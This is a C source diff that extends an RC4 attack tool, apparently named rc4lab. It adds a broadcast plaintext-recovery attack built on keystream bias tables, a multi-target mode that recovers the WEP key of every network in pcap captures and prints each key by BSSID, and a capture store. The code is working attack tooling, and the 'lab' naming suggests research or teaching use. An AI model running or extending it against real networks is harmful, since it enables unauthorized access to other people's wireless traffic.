+#define BC_MAXLEN 256
+
+double logp[BC_MAXLEN][256];    // log Pr[Z[r] = v] (uniform if not in the table)
+unsigned long long bchist[BC_MAXLEN][256]; // Per position ciphertext byte counts
+int bclen;                      // Record length
+int biaspos;                    // Positions present in the bias table
+
+struct bcfile {
+    const unsigned char *rec;
+    size_t nrec;
+};
+struct bcfile *bcfiles;
+int nbcfiles;
+
+void load_bias(const char *name){
+    FILE *f = fopen(name, "r");
+    char line[256];
+    int pos, a, ncells[BC_MAXLEN] = {0};
+    unsigned long long k;
+    double prob;
+    if (f == NULL){
+        perror(name);
+        exit(1);
+    }
+    for (int r = 0 ; r < BC_MAXLEN ; r++)
+        for (int v = 0 ; v < 256 ; v++) logp[r][v] = -log(256.0);
+    while (fgets(line, sizeof(line), f) != NULL){
+        if (sscanf(line, "single,%d,%d,,%llu,%lf", &pos, &a, &k, &prob) != 4) continue;
+        if (pos < 1 || pos > BC_MAXLEN || a < 0 || a > 255){
+            fprintf(stderr, "%s: not a bias table of 8-bit words\n", name);
+            exit(1);
+        }
+        logp[pos-1][a] = log(prob > 1e-12 ? prob : 1e-12);
+        ncells[pos-1]++;
+        if (pos > biaspos) biaspos = pos;
+    }
+    fclose(f);
+    // rc4 -A writes all the L single word cells of every position
+    for (pos = 0 ; pos < biaspos ; pos++)
+        if (ncells[pos] != 256){
+            fprintf(stderr, "%s: not a bias table of 8-bit words (%d words at position %d)\n", name, ncells[pos], pos + 1);
+            exit(1);
+        }
+    if (biaspos == 0){
+        fprintf(stderr, "%s: not a bias table\n", name);
+        exit(1);
+    }
+}
+
+void map_ciphertexts(const char *name){
+    int fd = open(name, O_RDONLY);
+    struct stat st;
+    if (fd < 0 || fstat(fd, &st) < 0){
+        perror(name);
+        exit(1);
+    }
+    const unsigned char *base = NULL;
+    if (st.st_size >= 8) base = mmap(NULL, st.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
+    close(fd);
+    if (base == NULL || base == MAP_FAILED || memcmp(base, BC_MAGIC, 4) != 0){
+        fprintf(stderr, "%s: not a ciphertext file\n", name);
+        exit(1);
+    }
+    int len = base[4] | base[5] << 8 | base[6] << 16 | base[7] << 24;
+    if (len < 1 || (bclen && len != bclen)){
+        fprintf(stderr, "%s: bad record length %d\n", name, len);
+        exit(1);
+    }
+    bclen = len;
+    madvise((void *)base, st.st_size, MADV_SEQUENTIAL);
+    bcfiles = realloc(bcfiles, (nbcfiles + 1) * sizeof(*bcfiles));
+    bcfiles[nbcfiles].rec = base + 8;
+    bcfiles[nbcfiles].nrec = (st.st_size - 8) / len;
+    nbcfiles++;
+}
+
+struct bcjob {
+    int p0, p1;
+    pthread_t th;
+};
+
+void *count_positions(void *arg){
+    struct bcjob *job = arg;
+    for (int i = 0 ; i < nbcfiles ; i++){
+        const unsigned char *r = bcfiles[i].rec;
+        for (size_t n = bcfiles[i].nrec ; n ; n--, r += bclen)
+            for (int p = job->p0 ; p < job->p1 ; p++) bchist[p][r[p]]++;
+    }
+    return NULL;
+}
+
+void broadcast(const char *biasname, int nfiles, char **names){
+    unsigned long long nrec = 0;
+    load_bias(biasname);
+    for (int i = 0 ; i < nfiles ; i++) map_ciphertexts(names[i]);
+    for (int i = 0 ; i < nbcfiles ; i++) nrec += bcfiles[i].nrec;
+    int npos = bclen < BC_MAXLEN ? bclen : BC_MAXLEN;
+    int nth = sysconf(_SC_NPROCESSORS_ONLN);
+    if (nth < 1) nth = 1;
+    if (nth > npos) nth = npos;
+    struct bcjob jobs[nth];
+    double t0 = now();
+    for (int t = 0 ; t < nth ; t++){
+        jobs[t].p0 = npos * t / nth;
+        jobs[t].p1 = npos * (t + 1) / nth;
+        if (pthread_create(&jobs[t].th, NULL, count_positions, &jobs[t]) != 0){
+            perror("pthread_create: ");
+            exit(1);
+        }
+    }
+    for (int t = 0 ; t < nth ; t++) pthread_join(jobs[t].th, NULL);
+    double t1 = now();
+    unsigned char plain[BC_MAXLEN];
+    printf("%llu ciphertexts of %d bytes, %d positions in the bias table (%.3f s, %.0f MB/s)\n",
+        nrec, bclen, biaspos, t1 - t0, nrec * bclen / 1e6 / (t1 - t0));
+    printf(" pos  byte  margin\n");
+    for (int r = 0 ; r < npos ; r++){
+        double best = -INFINITY, second = -INFINITY;
+        int pbest = 0;
+        for (int p = 0 ; p < 256 ; p++){
+            double ll = 0;
+            for (int c = 0 ; c < 256 ; c++) ll += bchist[r][c] * logp[r][c ^ p];
+            if (ll > best){
+                second = best;
+                best = ll;
+                pbest = p;
+            }
+            else if (ll > second) second = ll;
+        }
+        plain[r] = pbest;
+        // Log-likelihood ratio against the runner-up (0: no information)
+        if (r < biaspos) printf("%4d   %02X  %8.2f\n", r + 1, pbest, best - second);
+    }
+    printf("End: Plaintext: ");
+    for (int r = 0 ; r < npos && r < biaspos ; r++) printf("%02X", plain[r]);
+    printf("\n");
+}
+
+// Multi-target attack (-T): a capture with the frames of many networks
+// interleaved. Every target (BSSID) has its own compact state: the sum vote
+// counts (8 bits, halved when one saturates), the FMS frames as (class, x,
+// z) entries, and a few frames to verify candidate keys. The key of a target
+// is derived again (as in count_iter()) whenever its frame count has grown
+// by an eighth since the last attempt, and the target is resolved as soon as
+// the candidate explains all its verification frames. Targets idle for
+// idle_frames frames are evicted, by sweeps every min(SWEEP, idle_frames)
+// frames.
+//
+// All the state lives in fixed-size blocks carved from large slabs; blocks
+// of resolved or evicted targets go to a free list and are reused, so the
+// memory stays flat as targets come and go, and there is no allocation per
+// frame. A target takes one block, which also holds its first NFMS0 FMS
+// entries (FMS IVs are rare in real traffic); more entries go to extra
+// blocks.
+
+#define TBLOCK  4096                    // Arena block size
+#define TSLAB   (256 * TBLOCK)          // Arena slab size
+#define NVERIFY 8                       // Verification frames per target
+#define SWEEP   65536                   // Frames between idle sweeps
+#define NFMS0   224                     // FMS entries in the target block
+
+struct fmsblock {
+    struct fmsblock *next;
+    int n;
+    unsigned char e[(TBLOCK - 16) / 3][3];  // (class, x, z) entries
+};
+
+struct target {
+    unsigned char bssid[6];
+    unsigned long long frames, lastseen, nexttry;
+    int nverify;
+    unsigned char viv[NVERIFY][IVL], vz[NVERIFY];
+    struct fmsblock *fms;
+    unsigned char sums[KL][256];
+    int nfms0;
+    unsigned char fms0[NFMS0][3];
+};
+_Static_assert(sizeof(struct target) <= TBLOCK, "target state larger than an arena block");
+
+struct tslot {
+    unsigned char bssid[6];
+    bool used, resolved;
+    unsigned long long lastseen;
+    struct target *t;
+};
+
+void *free_blocks;
+char *slab_next, *slab_end;
+size_t arena_bytes, live_blocks, peak_blocks;
+struct tslot *ttable;
+size_t tcap, tcount;
+unsigned long long idle_frames = 1 << 20;
+unsigned long long tframes;
+int nresolved, nevicted, nseen;
+rc4lab_votes *tvotes;
+
+void *arena_get(){
+    void *b = free_blocks;
+    if (b != NULL) free_blocks = *(void **)b;
+    else {
+        if (slab_next == slab_end){
+            if ((slab_next = malloc(TSLAB)) == NULL){
+                perror("malloc: ");
+                exit(1);
+            }
+            slab_end = slab_next + TSLAB;
+            arena_bytes += TSLAB;
+        }
+        b = slab_next;
+        slab_next += TBLOCK;
+    }
+    if (++live_blocks > peak_blocks) peak_blocks = live_blocks;
+    return b;
+}
+
+void arena_put(void *b){
+    *(void **)b = free_blocks;
+    free_blocks = b;
+    live_blocks--;
+}
+
+void free_target(struct target *t){
+    while (t->fms != NULL){
+        struct fmsblock *b = t->fms;
+        t->fms = b->next;
+        arena_put(b);
+    }
+    arena_put(t);
+}
+
+void print_bssid(const unsigned char *b){
+    printf("%02X:%02X:%02X:%02X:%02X:%02X", b[0], b[1], b[2], b[3], b[4], b[5]);
+}
+
+struct tslot *find_slot(struct tslot *table, size_t cap, const unsigned char *bssid){
+    size_t h = 0;
+    for (int i = 0 ; i < 6 ; i++) h = h * 0x100000001B3ULL + bssid[i];
+    for (size_t i = (h ^ h >> 29) & (cap - 1) ; ; i = (i + 1) & (cap - 1))
+        if (!table[i].used || memcmp(table[i].bssid, bssid, 6) == 0) return &table[i];
+}
+
+// Rebuilds the table without the targets idle since before horizon, with
+// room for twice the remaining ones.
+void sweep_targets(unsigned long long horizon){
+    size_t cap = 1024;
+    while (cap < 4 * tcount) cap *= 2;
+    struct tslot *table = calloc(cap, sizeof(*table));
+    if (table == NULL){
+        perror("calloc: ");
+        exit(1);
+    }
+    tcount = 0;
+    for (size_t i = 0 ; i < tcap ; i++){
+        struct tslot *s = &ttable[i];
+        if (!s->used) continue;
+        if (s->lastseen < horizon){
+            if (s->t != NULL){
+                print_bssid(s->bssid);
+                printf(": idle, evicted after %llu frames\n", s->t->frames);
+                free_target(s->t);
+                nevicted++;
+            }
+            continue;
+        }
+        *find_slot(table, cap, s->bssid) = *s;
+        tcount++;
+    }
+    free(ttable);
+    ttable = table;
+    tcap = cap;
+}
+
+void fms_votes(int n, const unsigned char *key, unsigned char (*e)[3], int ne){
+    unsigned char iv[IVL] = {n + 3, 0xFF, 0};
+    for (int i = 0 ; i < ne ; i++)
+        if (e[i][0] == n + 1){
+            iv[2] = e[i][1];
+            rc4lab_votes_add(tvotes, n, rc4lab_vote(n, key, iv, e[i][2]), rc4lab_vote_weight(n, iv));
+        }
+}
+
+// Key candidate from the state of t (FMS and sum votes, as count_iter())
+void derive_key(struct target *t, unsigned char *key){
+    for (int n = 0 ; n < KL ; n++){
+        int prefix = 0;
+        rc4lab_votes_clear(tvotes, n);
+        fms_votes(n, key, t->fms0, t->nfms0);
+        for (struct fmsblock *b = t->fms ; b != NULL ; b = b->next) fms_votes(n, key, b->e, b->n);
+        for (int i = 0 ; i < n ; i++) prefix += key[i];
+        for (int v = 0 ; v < 256 ; v++)
+            if (t->sums[n][v]) rc4lab_votes_add(tvotes, n, v - prefix, t->sums[n][v] * RC4LAB_SUM_WEIGHT);
+        key[n] = rc4lab_votes_best(tvotes, n, NULL, NULL);
+    }
+}
+
+void target_frame(const rc4lab_frame *fr){
+    unsigned char z[KSL], sigma[KSL];
+    int nz = rc4lab_frame_keystream(fr, z, KSL);
+    if (nz < 1) return;
+    tframes++;
+    if (tframes % (idle_frames < SWEEP ? idle_frames : SWEEP) == 0 && tframes > idle_frames)
+        sweep_targets(tframes - idle_frames);
+    if (2 * (tcount + 1) > tcap) sweep_targets(0);
+    struct tslot *s = find_slot(ttable, tcap, fr->bssid);
+    if (!s->used){
+        memset(s, 0, sizeof(*s));
+        memcpy(s->bssid, fr->bssid, 6);
+        s->used = true;
+        s->t = arena_get();
+        memset(s->t, 0, sizeof(struct target));
+        memcpy(s->t->bssid, fr->bssid, 6);
+        s->t->nexttry = 64;
+        tcount++;
+        nseen++;
+    }
+    s->lastseen = tframes;
+    struct target *t = s->t;
+    if (t == NULL) return;              // Already resolved
+    t->frames++;
+    int k = iv_class(fr->iv);
+    if (k > 0){
+        unsigned char *e;
+        if (t->nfms0 < NFMS0) e = t->fms0[t->nfms0++];
+        else {
+            if (t->fms == NULL || t->fms->n == (int)(sizeof(t->fms->e) / 3)){
+                struct fmsblock *b = arena_get();
+                b->next = t->fms;
+                b->n = 0;
+                t->fms = b;
+            }
+            e = t->fms->e[t->fms->n++];
+        }
+        e[0] = k;
+        e[1] = fr->iv[2];
+        e[2] = z[0];
+    }
+    int n = rc4lab_sum_votes(fr->iv, z, nz, sigma);
+    for (int i = 0 ; i < n && i < KL ; i++)
+        if (++t->sums[i][sigma[i]] == 0xFF)
+            for (int v = 0 ; v < 256 ; v++) t->sums[i][v] /= 2;
+    if (t->nverify < NVERIFY){
+        memcpy(t->viv[t->nverify], fr->iv, IVL);
+        t->vz[t->nverify++] = z[0];
+    }
+    if (t->frames < t->nexttry || t->nverify < NVERIFY) return;
+    t->nexttry = t->frames + t->frames / 8;
+    unsigned char key[KL];
+    derive_key(t, key);
+    if (rc4lab_verify(key, KL, &t->viv[0][0], t->vz, NVERIFY) != NVERIFY) return;
+    print_bssid(t->bssid);
+    printf(": Key: ");
+    for (int i = 0 ; i < KL ; i++) printf("%02X", key[i]);
+    printf(" (%llu frames, frame %llu of the capture)\n", t->frames, tframes);
+    free_target(t);
+    s->t = NULL;
+    s->resolved = true;
+    nresolved++;
+}
+
+void multi_target(int nfiles, char **names){
+    if ((tvotes = rc4lab_votes_new(KL)) == NULL){
+        perror("rc4lab_votes_new: ");
+        exit(1);
+    }
+    sweep_targets(0);
+    for (int i = 0 ; i < nfiles ; i++){
+        rc4lab_pcap *pc = rc4lab_pcap_open(names[i]);
+        rc4lab_frame fr;
+        int r;
+        if (pc == NULL){
+            perror(names[i]);
+            exit(1);
+        }
+        while ((r = rc4lab_pcap_next(pc, &fr)) > 0) target_frame(&fr);
+        if (r < 0) fprintf(stderr, "%s: malformed capture, ignoring the rest\n", names[i]);
+        rc4lab_pcap_close(pc);
+    }
+    for (size_t i = 0 ; i < tcap ; i++)
+        if (ttable[i].used && ttable[i].t != NULL){
+            print_bssid(ttable[i].bssid);
+            printf(": not resolved (%llu frames)\n", ttable[i].t->frames);
+        }
+    printf("End: %llu frames, %d targets, %d resolved, %d evicted; arena %zu KB, peak %zu KB in use\n",
+        tframes, nseen, nresolved, nevicted, arena_bytes >> 10, peak_blocks * TBLOCK >> 10);
+}
+
+// Capture store (-D): the frames of the captures given with -P are added to
+// the store (deduplicated, see rc4lab_store_append()) in segments of at most
+// STORE_BATCH records. A store holds one network, the one of its first frame:
+// the frames of other networks are skipped (and counted). The key is then
+// derived from the FMS counts of the buckets of the IV classes (n+3,FF)
+// alone, so only those buckets of the store are read, whatever its size.
+
+#define STORE_BATCH (1 << 22)
+
+void store_pcap(rc4lab_store *s, const char *name){
+    rc4lab_pcap *pc = rc4lab_pcap_open(name);
+    rc4lab_storerec *r = malloc(STORE_BATCH * sizeof(*r));
+    rc4lab_frame fr;
+    long added = 0, skipped = 0, a;
+    size_t n = 0;
+    int res;
+    unsigned char bssid[6];
+    bool has_bssid = rc4lab_store_bssid(s) != NULL;
+    if (has_bssid) memcpy(bssid, rc4lab_store_bssid(s), 6);
+    if (pc == NULL){
+        perror(name);
+        exit(1);
+    }
+    if (r == NULL){
+        perror("malloc: ");
+        exit(1);
+    }
+    recordNum = 0;
+    for (;;){
+        res = rc4lab_pcap_next(pc, &fr);
+        if (res > 0){
+            memcpy(r[n].iv, fr.iv, IVL);
+            r[n].nz = rc4lab_frame_keystream(&fr, r[n].z, sizeof(r[n].z));
+            if (r[n].nz == 0) continue;
+            recordNum++;
+            if (!has_bssid){
+                memcpy(bssid, fr.bssid, 6);
+                has_bssid = true;
+            }
+            else if (memcmp(bssid, fr.bssid, 6) != 0){
+                skipped++;
+                continue;
+            }
+            n++;
+        }
+        if (n == STORE_BATCH || (res <= 0 && n > 0)){
+            if ((a = rc4lab_store_append(s, bssid, r, n)) < 0){
+                perror("rc4lab_store_append: ");
+                exit(1);
+            }
+            added += a;
+            n = 0;
+        }
+        if (res <= 0) break;
+    }
+    if (res < 0) fprintf(stderr, "Malformed capture: ignoring data after frame %d\n", recordNum);
+    printf("%d WEP data frames read from %s, %ld new records\n", recordNum, name, added);
+    if (skipped){
+        printf("%ld frames of networks other than ", skipped);
+        print_bssid(bssid);
+        printf(" skipped\n");
+    }
+    rc4lab_pcap_close(pc);
+    free(r);
+}
+
+void count_store(rc4lab_store *s){
+    size_t total, bytes, used = 0;
+    alloc_counts();
+    for (int k = 1 ; k < IVITER ; k++)
+        for (int i = 0 ; i < rc4lab_store_segments(s) ; i++){
+            size_t n;
+            const rc4lab_storerec *r = rc4lab_store_bucket(s, i, (k + 2) << 8 | 0xFF, &n);
+            for (size_t j = 0 ; j < n ; j++) ivcount[k][r[j].iv[2]][r[j].z[0]]++;
+            used += n;
+        }
+    nframes = used;
+    rc4lab_store_stats(s, &total, &bytes);
+    printf("%zu records in %d segments (%.1f MB), %zu of them in the IV class buckets (%.1f MB)\n",
+        total, rc4lab_store_segments(s), bytes / 1e6, used, used * sizeof(rc4lab_storerec) / 1e6);
+    if (rc4lab_store_bssid(s)){
+        printf("Network ");
+        print_bssid(rc4lab_store_bssid(s));
+        printf("\n");
+    }
+}
+
 void check_option(char *option) {
     
     if(strcmp(option, "-c") == 0) custom_files = true;
     else custom_files = false;
 }
 void print_final(){
-    printf("End: Message is %02X and Key: ", M[0]);
+    if (from_counts) printf("End: Key: ");
+    else printf("End: Message is %02X and Key: ", M[0]);
     for (int i = 0 ; i < KL; i++) printf("%02X", Key[i]);
     printf("\n");
     
 }
 
 int main(int argc, char *argv[]){
-    if (argc > 1){
+    PROF_INIT(phasenames, NPHASES, counternames, NCOUNTERS);
+    if ((votes = rc4lab_votes_new(IVITER)) == NULL){
+        perror("rc4lab_votes_new: ");
+        exit(1);
+    }
+    if (argc > 2 && strcmp(argv[1], "-T") == 0){
+        int i = 2;
+        if (argc > 4 && strcmp(argv[2], "-i") == 0){
+            idle_frames = strtoull(argv[3], NULL, 0);
+            if (idle_frames < 1){
+                fprintf(stderr, "Bad idle frame count: %s\n", argv[3]);
+                exit(1);
+            }
+            i = 4;
+        }
+        multi_target(argc - i, argv + i);
+    }
+    else if (argc > 2 && strcmp(argv[1], "-D") == 0){
+        rc4lab_store *s = rc4lab_store_open(argv[2], 1);
+        int i = 3;
+        if (s == NULL){
+            perror(argv[2]);
+            exit(1);
+        }
+        if (i < argc && strcmp(argv[i], "-P") == 0)
+            for (i++ ; i < argc ; i++) store_pcap(s, argv[i]);
+        if (i < argc){
+            fprintf(stderr, "Unexpected argument: %s\n", argv[i]);
+            exit(1);
+        }
+        from_counts = true;
+        count_store(s);
+        for(iteration = 1 ; iteration < IVITER ; iteration++){
+            count_iter();
+        }
+        print_final();
+        rc4lab_store_close(s);
+    }
+    else if (argc > 3 && strcmp(argv[1], "-M") == 0){
+        broadcast(argv[2], argc - 3, argv + 3);
+    }
+    else if (argc > 2 && strcmp(argv[1], "-B") == 0){
+        for (int i = 2 ; i < argc ; i++) bench(argv[i]);
+    }
+    else if (argc > 2 && (strcmp(argv[1], "-P") == 0 || strcmp(argv[1], "-S") == 0)){
+        const char *state_name = NULL;
+        unsigned long long loaded = 0;
+        int i = 1;
+        from_counts = true;
+        if (strcmp(argv[1], "-S") == 0){
+            state_name = argv[2];
+            load_state(state_name);
+            loaded = nframes;
+            i = 3;
+        }
+        if (i < argc && strcmp(argv[i], "-P") == 0){
+            char **names = malloc(argc * sizeof(char *));
+            int n = 0;
+            for (i++ ; i < argc ; i++)
+                if (merged_before(argv[i])) fprintf(stderr, "%s: already merged, skipped\n", argv[i]);
+                else names[n++] = argv[i];
+            count_files(names, n, true);
+            free(names);
+        }
+        if (i < argc){
+            fprintf(stderr, "Unexpected argument: %s\n", argv[i]);
+            exit(1);
+        }
+        if (state_name && nframes != loaded) save_state(state_name);
+        for(iteration = 1 ; iteration < IVITER ; iteration++){
+            count_iter();
+        }
+        print_final();
+    }
+    else if (argc > 2){
+        // Known plaintext: all the files in one pass
+        check_option(argv[1]);
+        if ((nknown = rc4lab_hex_decode(argv[2], strlen(argv[2]), known)) < 1 || nknown > MAXREC){
+            fprintf(stderr, "Bad known plaintext: %s\n", argv[2]);
+            exit(1);
+        }
+        M[0] = known[0];
+        char names[IVITER][32], *files[IVITER];
+        for(iteration = 0 ; iteration < IVITER ; iteration++){
+            if (custom_files) sprintf(names[iteration], "%s.dat", iv_names[iteration]);
+            else sprintf(names[iteration], "%s%s.dat", pref_p, iv_names_p[iteration]);
+            files[iteration] = names[iteration];
+        }
+        count_files(files, IVITER, false);
+        for(iteration = 1 ; iteration < IVITER ; iteration++){
+            count_iter();
+        }
+        print_final();
+    }
+    else if (argc > 1){
         check_option(argv[1]);
         for(iteration = 0 ; iteration < IVITER ; iteration++){
             iter();
         }
         print_final();
     }
-    else printf("Usage: -c: Use custom files -p: Use provided files\n");
+    else printf("Usage: -c: Use custom files -p: Use provided files (optionally followed by the known plaintext in hex) [-S <state>] -P <file>...: Attack pcap/pcapng captures (merged into the state file) -S <state>: Attack the state file -B <file>...: Input throughput -M <bias.csv> <file>...: Broadcast attack -T [-i <idle frames>] <file>...: Attack every network of the captures -D <store> [-P <file>...]: Attack the capture store (adding the captures to it)\n"
+                "(files may be gzip or zstd compressed)\n");
     return 0;
 }
\ No newline at end of file